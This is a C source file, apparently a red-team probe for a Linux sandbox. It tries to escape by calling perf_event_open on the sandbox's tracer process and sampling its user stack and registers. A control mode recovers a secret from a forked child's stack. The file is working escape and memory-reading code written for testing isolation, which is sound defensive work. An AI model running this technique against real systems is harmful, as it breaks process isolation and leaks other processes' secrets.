/* perf_tracer.c: red team 46 -- the tracer's stack and registers sampled by perf.
 *
 * `perf_event_open` is an unsafe call a rule may name (a profiler needs it).  With a pid it
 * samples that process: PERF_SAMPLE_STACK_USER copies the top of its user stack into our
 * ring buffer at each sample, PERF_SAMPLE_REGS_USER its registers.  The tracer is a process
 * outside the tree (/proc/self/status's TracerPid); root (CAP_PERFMON, CAP_SYS_PTRACE) passes
 * over its non-dumpable flag.
 *
 *   perf_tracer MODE SECRET
 *
 * MODE:
 *   perf            sample the TracerPid's user stack while it serves our stops (each open
 *                   of a file stops: the policy has a path rule): ESCAPED when a sample of
 *                   its stack comes.
 *   native-perf     the control, against a child of ours (a stand-in for the tracer, which
 *                   natively does not exist) that holds the secret on its stack and spins:
 *                   a sample gives us the secret.
 */
#include "attack.h"

#include <linux/perf_event.h>
#include <sys/mman.h>

#define STACK_BYTES 8192
#define PAGES 16

static pid_t stand_in_pid;

static void end_stand_in(void) {
    if (stand_in_pid > 0)
        kill(stand_in_pid, SIGKILL);
}

static __attribute__((noinline)) void spin_holding(const char *secret) {
    volatile char held[256];
    int fd = open(secret, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, (char *)held, sizeof held - 1) : -1;
    held[n > 0 ? n : 0] = 0;
    for (;;)
        held[255] = held[0];
}

static pid_t stand_in(const char *secret) {
    pid_t child = fork();
    if (child == 0)
        spin_holding(secret);
    stand_in_pid = child;
    atexit(end_stand_in);
    usleep(100000);
    return child;
}

/* One sample's user stack (after the header: PERF_SAMPLE_REGS_USER's abi, its registers,
 * then size, data[size], dyn_size): found when `want` is in it, or any bytes if NULL. */
static int find_in_samples(struct perf_event_mmap_page *meta, const char *want, int nregs) {
    char *data = (char *)meta + getpagesize();
    unsigned long size = meta->data_size, head = meta->data_head;
    __sync_synchronize();
    static char copy[PAGES * 4096 + 64];
    int found = 0;
    for (unsigned long tail = meta->data_tail; tail < head;) {
        struct perf_event_header h;
        for (size_t i = 0; i < sizeof h; i++)
            ((char *)&h)[i] = data[(tail + i) % size];
        if (h.size == 0)
            break;
        for (unsigned i = 0; i < h.size && i < sizeof copy; i++)
            copy[i] = data[(tail + i) % size];
        if (h.type == PERF_RECORD_SAMPLE && h.size > sizeof h + 8) {
            char *p = copy + sizeof h;
            unsigned long abi = *(unsigned long *)p;
            p += 8 + (abi ? 8UL * nregs : 0);
            unsigned long got = *(unsigned long *)p;
            p += 8;
            unsigned long dyn = got && p + got + 8 <= copy + h.size ? *(unsigned long *)(p + got)
                                                                     : 0;
            if (dyn > 0) {
                if (!want)
                    found = (int)dyn;
                else if (memmem(p, dyn, want, strlen(want)))
                    found = (int)dyn;
            }
        }
        tail += h.size;
        if (found)
            break;
    }
    meta->data_tail = head;
    return found;
}

int main(int argc, char **argv) {
    if (argc != 3)
        usage("perf_tracer perf|native-perf SECRET");
    const char *mode = argv[1], *secret = argv[2];
    int native = strncmp(mode, "native-", 7) == 0;
    if (native)
        mode += 7;
    if (strcmp(mode, "perf") != 0)
        usage("unknown mode");
    int fd = open(secret, O_RDONLY);
    if (fd >= 0 && !native)
        escaped("the secret opened directly");
    note("our own open of the secret: %s", fd >= 0 ? "opened" : ename(errno));
    if (fd >= 0)
        close(fd);
    pid_t pid = native ? stand_in(secret) : tracer_pid();
    if (pid <= 0)
        skipped("no tracer to aim at");
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_TASK_CLOCK;
    attr.sample_period = 20000; /* ns of the target's CPU time */
    attr.sample_type = PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER;
    attr.sample_regs_user = (1UL << 6) | (1UL << 7); /* x86 SP, IP */
    attr.sample_stack_user = STACK_BYTES;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    int ev = (int)syscall(SYS_perf_event_open, &attr, pid, -1, -1, PERF_FLAG_FD_CLOEXEC);
    if (ev < 0) {
        if (native)
            skipped("perf_event_open: %s (no perf events here)", ename(errno));
        blocked("perf_event_open of task %d: %s", pid, ename(errno));
    }
    void *ring = mmap(NULL, (size_t)(PAGES + 1) * getpagesize(), PROT_READ | PROT_WRITE,
                      MAP_SHARED, ev, 0);
    if (ring == MAP_FAILED)
        blocked("mmap of the perf ring: %s", ename(errno));
    const char *want = native ? SECRET_MAGIC : NULL;
    for (int round = 0; round < 2000; round++) {
        if (!native) {
            /* each open stops for our tracer, which runs (and is sampled) to decide it */
            int f = open("/", O_RDONLY | O_DIRECTORY);
            if (f >= 0)
                close(f);
        } else {
            usleep(1000);
        }
        int got = find_in_samples(ring, want, 2);
        if (got > 0) {
            if (native)
                escaped("a sample of task %d's stack (%d bytes) held the secret", pid, got);
            escaped("sampled %d bytes of our tracer %d's user stack", got, pid);
        }
    }
    blocked("no sample of task %d's stack came", pid);
}
